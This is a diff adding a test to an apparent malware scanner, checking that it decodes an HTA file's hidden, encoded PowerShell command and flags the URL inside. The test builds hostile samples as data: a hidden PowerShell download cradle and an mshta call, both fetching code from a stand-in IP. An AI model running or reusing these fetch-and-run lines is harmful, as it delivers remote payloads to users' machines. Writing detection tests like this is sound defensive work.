@@ -229,3 +229,19 @@ def test_javascript_inside_a_page_is_folded_block_by_block():
     [layer] = layers(run)
     assert 'new ActiveXObject("WScript.Shell").Run("mshta http://198.51.100.9/x.hta")' in layer
     assert "mshta" in signatures(run, 4)
+
+
+async def test_in_the_mesh_the_decoded_layer_is_a_child_whose_url_is_seen(sluice_mesh):
+    """The issue's HTA: its -enc command is decoded into a child, and iocs tags the URL inside it."""
+    from schemas.messages import walk
+
+    hta = (f'<html><head><hta:application id="a"/></head><script language="VBScript">\nCreateObject("WScript.Shell").Run '
+           f'"powershell -nop -w hidden -enc {enc(CRADLE)}", 0\n</script></html>')
+    async with sluice_mesh(["scripts", "iocs"]) as mesh:
+        summary = await mesh.scan("invoice.hta", hta.encode(), timeout=60)
+    [root] = summary.files
+    [child] = root.children
+    assert root.type == "code/hta" and child.relation == Relation.DECODED_FROM
+    assert "http://198.51.100.9/a.ps1" in summary.tags["network.static.uri"]
+    assert summary.score >= 1000 and summary.verdict == "malicious"
+    assert [n.name for n in walk(summary.files)] == ["invoice.hta", "invoice.hta.layer1"]
